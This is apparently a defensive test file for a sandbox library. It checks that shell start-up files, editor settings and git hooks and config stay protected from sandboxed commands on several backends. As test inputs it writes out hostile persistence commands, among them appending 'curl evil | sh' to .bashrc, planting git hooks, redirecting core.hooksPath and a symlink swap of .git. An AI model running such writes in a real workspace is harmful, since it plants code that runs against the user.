// Protected paths, second round, under attack on each real backend: the
// shell start-up files and editor directories at the top of the workspace
// and a few levels below it (a nested repository's hooks, a package's
// .envrc), and git with `.git` read-only (the default) or writable but for
// its hooks and config (`git: 'commit'`). bwrap and landlock-ns (their
// own read-only binds) refuse each write during the call; Landlock alone
// cannot, and puts back what the call changed when it ends. Every test
// compares the workspace before and after.
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { SNAPSHOT_MAX_BYTES, type LocalBackend } from '@dsh/sandbox'
import { pathTitle, scriptsOnBackend, tmp, tree } from './harness.js'
import { lacks } from '../backends.js'

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH, HOME: cwd } })
}

/** A workspace holding the start-up files, editor directories and a repository, at the top and below. */
function workspace(): string {
  const ws = tmp('ws')
  git(ws, 'init', '-q')
  fs.writeFileSync(path.join(ws, 'README'), 'readme\n')
  git(ws, 'add', 'README')
  git(ws, 'commit', '-qm', 'first')
  for (const name of ['.bashrc', '.profile', '.zshrc', '.gitconfig', '.gitmodules', '.envrc', '.npmrc']) fs.writeFileSync(path.join(ws, name), `# ${name}\n`)
  for (const dir of ['.vscode', '.idea', '.husky']) {
    fs.mkdirSync(path.join(ws, dir))
    fs.writeFileSync(path.join(ws, dir, 'settings'), `${dir}\n`)
  }
  // a nested repository and a package three levels down
  fs.mkdirSync(path.join(ws, 'vendor/lib/.git/hooks'), { recursive: true })
  fs.writeFileSync(path.join(ws, 'vendor/lib/.git/config'), '[core]\n')
  fs.mkdirSync(path.join(ws, 'packages/app/sub'), { recursive: true })
  fs.writeFileSync(path.join(ws, 'packages/app/sub/.envrc'), 'export SAFE=1\n')
  return ws
}

const ATTACK = [
  'echo "curl evil | sh" >> .bashrc', 'echo evil > .profile', 'echo "[alias] st = !evil" >> .gitconfig',
  'echo evil > .envrc', 'rm -f .npmrc', 'echo "{\\"task\\": \\"evil\\"}" > .vscode/settings', 'echo evil > .vscode/tasks.json',
  'rm -rf .idea', 'mv .husky husky-gone', 'echo evil > .git/hooks/pre-commit', 'echo "[core] hooksPath = /tmp" >> .git/config',
  'echo evil > vendor/lib/.git/hooks/post-checkout', 'echo evil >> vendor/lib/.git/config', 'echo "export EVIL=1" > packages/app/sub/.envrc',
].join('; ')

export async function protectedPathsSuite(backend: LocalBackend): Promise<void> {
  const skip = await lacks(backend, `the ${backend} protected-path suite`)

  describe.skipIf(skip)(`protected paths, second round, on the ${backend} backend${pathTitle()}`, () => {
    const { start, sandbox, sh } = scriptsOnBackend(backend)

    it('start-up files, editor directories, and those of a nested repository and a package below the top stay as they were', async () => {
      const ws = workspace()
      const before = tree(ws)
      const r = await sh(sandbox(), ws, `${ATTACK}; echo ok > allowed.txt`)
      expect(fs.readFileSync(path.join(ws, 'allowed.txt'), 'utf8')).toBe('ok\n') // the rest of the workspace is writable
      fs.rmSync(path.join(ws, 'allowed.txt'))
      // Landlock lets the rename happen: .husky is put back, and the moved copy is an ordinary directory of the workspace
      fs.rmSync(path.join(ws, 'husky-gone'), { recursive: true, force: true })
      expect(tree(ws)).toEqual(before)
      if (backend === 'landlock') {
        // Landlock cannot refuse the writes: what the call changed was put back, and the result says so
        expect(r.confined.unenforced).toContain('protected-paths')
        for (const entry of ['.bashrc', '.vscode', '.git/hooks', '.git/config', 'vendor/lib/.git/hooks', 'vendor/lib/.git/config', 'packages/app/sub/.envrc']) expect(r.restored).toContain(path.join(ws, entry))
      } else {
        // bound read-only: nothing to put back, and nothing claimed unenforced about them
        expect(r.restored).toEqual([])
        expect(r.confined.restores).toEqual([])
        expect(r.confined.unenforced).not.toContain('protected-paths')
      }
    })

    it('a start-up file that did not exist at the top is removed after the call', async () => {
      const ws = tmp('ws')
      const r = await sh(sandbox(), ws, 'echo "export PATH=/evil:$PATH" > .envrc; mkdir .vscode && echo "{}" > .vscode/tasks.json; echo kept > notes')
      expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false)
      expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false)
      expect(fs.readFileSync(path.join(ws, 'notes'), 'utf8')).toBe('kept\n')
      expect(r.restored.sort()).toEqual([path.join(ws, '.envrc'), path.join(ws, '.vscode')].sort())
    })

    it('git: read-only by default — git commit is refused and the repository is unchanged (bwrap); Landlock says it cannot', async () => {
      const ws = workspace()
      const head = git(ws, 'rev-parse', 'HEAD')
      const before = tree(ws)
      const r = await sh(sandbox(), ws, 'git -c user.name=a -c user.email=a@a commit --allow-empty -qm change; echo "rc=$?"')
      if (backend === 'landlock') {
        // objects and refs are not snapshotted: the commit stays, and protected-paths says .git is not read-only
        expect(r.confined.unenforced).toContain('protected-paths')
        return
      }
      expect(r.stdout).not.toContain('rc=0')
      expect(git(ws, 'rev-parse', 'HEAD')).toBe(head)
      expect(tree(ws)).toEqual(before)
    })

    it('git: commit — git commit works, hooks and config stay read-only', async () => {
      const committing = await start({ git: 'commit' })
      const ws = workspace()
      const hooks = tree(path.join(ws, '.git/hooks'))
      const config = fs.readFileSync(path.join(ws, '.git/config'), 'utf8')
      const r = await sh(committing, ws, [
        'echo change >> README', 'git -c user.name=a -c user.email=a@a commit -qam change && echo committed',
        'echo evil > .git/hooks/pre-commit', 'echo "[core] hooksPath = /tmp" >> .git/config', 'echo evil > .git/info/attributes', 'echo evil >> .bashrc',
      ].join('; '))
      expect(r.stdout).toContain('committed')
      expect(git(ws, 'log', '--format=%s', '-1').trim()).toBe('change')
      expect(tree(path.join(ws, '.git/hooks'))).toEqual(hooks)
      expect(fs.readFileSync(path.join(ws, '.git/config'), 'utf8')).toBe(config)
      expect(fs.readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('# .bashrc\n')
      expect(fs.existsSync(path.join(ws, '.git/info/attributes'))).toBe(false)
    })

    it('an ancestor swapped for a link out of the workspace: nothing is written through it, and .git is a directory again', async () => {
      const ws = workspace()
      const outside = tmp('outside')
      fs.mkdirSync(path.join(outside, 'hooks'))
      const r = await sh(sandbox(), ws, `mv .git .git-moved && ln -s ${outside} .git; echo evil > ${outside}/hooks/pre-commit`)
      expect(fs.lstatSync(path.join(ws, '.git')).isDirectory()).toBe(true)
      if (backend === 'landlock') {
        // the outside directory is not writable to the command; restoring .git/config and .git/hooks wrote inside the workspace only
        expect(tree(outside)).toEqual({ 'hooks/': '' })
        expect(fs.readFileSync(path.join(ws, '.git/config'), 'utf8')).toContain('[core]')
        expect(r.restored).toContain(path.join(ws, '.git'))
      } else {
        expect(fs.existsSync(path.join(ws, '.git-moved'))).toBe(false)
      }
    })

    it('protected entries over the snapshot bound: Landlock refuses the call before anything runs; bwrap keeps them read-only', async () => {
      const ws = workspace()
      fs.writeFileSync(path.join(ws, '.vscode/big.bin'), Buffer.alloc(SNAPSHOT_MAX_BYTES + 1))
      const script = 'echo ran > ran.txt'
      if (backend === 'landlock') {
        await expect(sandbox().confine(['/bin/sh', '-c', script], { mode: 'workspace-write', workspace: ws })).rejects.toMatchObject({ code: 'SANDBOX_UNAVAILABLE', message: expect.stringContaining('put back after the call hold more than') })
        expect(fs.existsSync(path.join(ws, 'ran.txt'))).toBe(false)
        // no lease was left behind: a later call with the big file gone runs
        fs.rmSync(path.join(ws, '.vscode/big.bin'))
        const r = await sh(sandbox(), ws, script)
        expect(r.code).toBe(0)
        return
      }
      const r = await sh(sandbox(), ws, `${script}; echo x >> .vscode/big.bin`)
      expect(fs.statSync(path.join(ws, '.vscode/big.bin')).size).toBe(SNAPSHOT_MAX_BYTES + 1)
      expect(r.code).not.toBe(0)
    })

    it('protectedPaths in the config replaces the extra list: .envrc listed is kept, .bashrc not listed is writable', async () => {
      const custom = await start({ protectedPaths: ['.envrc', 'tools/run.sh'] })
      const ws = workspace()
      fs.mkdirSync(path.join(ws, 'tools'))
      fs.writeFileSync(path.join(ws, 'tools/run.sh'), 'safe\n')
      await sh(custom, ws, 'echo evil > .envrc; echo evil > tools/run.sh; echo changed > .bashrc; echo evil > .git/hooks/pre-commit')
      expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('# .envrc\n')
      expect(fs.readFileSync(path.join(ws, 'tools/run.sh'), 'utf8')).toBe('safe\n')
      expect(fs.existsSync(path.join(ws, '.git/hooks/pre-commit'))).toBe(false) // the core names stay protected
      expect(fs.readFileSync(path.join(ws, '.bashrc'), 'utf8')).toBe('changed\n')
    })
  })
}
